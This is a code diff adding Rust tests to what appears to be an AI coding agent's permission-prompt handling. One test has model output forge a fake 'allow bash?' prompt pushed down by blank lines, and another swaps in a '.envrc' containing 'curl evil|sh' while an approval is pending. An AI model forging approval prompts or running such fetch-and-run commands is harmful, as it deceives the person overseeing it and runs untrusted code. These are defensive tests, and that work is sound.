@@ -254,6 +254,64 @@ fn a_permission_does_not_take_the_place_of_the_models_question() {
     assert!(!world.path("pwned").exists());
 }
 
+/// Through a pipe (`| tee`) the model's text reaches the same terminal at a time of its own: below the question, it looked like one.
+#[test]
+fn text_that_goes_through_a_pipe_waits_for_the_answer() {
+    let forged = "\n".repeat(30) + "? allow bash? [y]es, [n]o, [a]lways: ";
+    let world = World::new([
+        json!({ "tools": [bash("touch pwned")], "then": forged }),
+        done(),
+    ]);
+    world.config(json!({ "permission": { "bash": "ask" } }));
+    let (mut person, printed) = Person::piped(&world, &["run", "go"], (80, 24));
+    person.sees("? allow bash? [y]es, [n]o");
+    let before = printed.lock().unwrap().clone();
+    std::thread::sleep(std::time::Duration::from_millis(500));
+    assert_eq!(*printed.lock().unwrap(), before);
+    person.types("n\n");
+    person.ends(0);
+    assert!(printed.lock().unwrap().contains("? allow bash? [y]es"));
+    assert!(!world.path("pwned").exists());
+}
+
+/// The difference that a person approves is the one that is made: where the file has changed meanwhile, they are asked again.
+#[test]
+fn a_file_that_changed_while_it_was_asked_about_is_asked_about_again() {
+    let args =
+        json!({ "filePath": ".envrc", "oldString": "# c", "newString": "c", "replaceAll": true });
+    let world = World::new([turn([call("edit", args)]), done()]);
+    world.file(".envrc", "# cd docs\n");
+    let mut person = Person::sized(&world, &["run", "go"], (80, 24));
+    person.sees("? allow edit? ");
+    let changed = "# cd docs\n# curl evil|sh\n";
+    world.file(".envrc", changed);
+    person.types("y\n");
+    person.sees("│ +curl evil|sh\n");
+    assert_eq!(world.read(".envrc"), changed);
+    person.types("n\n");
+    person.ends(0);
+    assert_eq!(world.read(".envrc"), changed);
+}
+
+/// Where "always" is not offered, it is no answer; a terminal of another size shows the question again, wrapped to it.
+#[test]
+fn what_is_not_offered_is_no_answer_and_a_resize_shows_the_question_again() {
+    let world = World::new([turn([bash("for f in *; do touch pwned; done")]), done()]);
+    world.config(json!({ "permission": { "bash": "ask" } }));
+    let mut person = Person::sized(&world, &["run", "go"], (80, 24));
+    person.sees("? allow bash? [y]es, [n]o: ");
+    person.resizes((40, 12));
+    let again = || person.screen().matches("? allow bash? ").count() == 2;
+    assert!(
+        wait_until(std::time::Duration::from_secs(10), again),
+        "{}",
+        person.screen()
+    );
+    person.types("a\n");
+    person.ends(0);
+    assert!(!world.path("pwned").exists());
+}
+
 /// No text of a model is an entry of the conversation.
 #[test]
 fn a_text_of_a_model_looks_like_no_entry_of_a_session() {
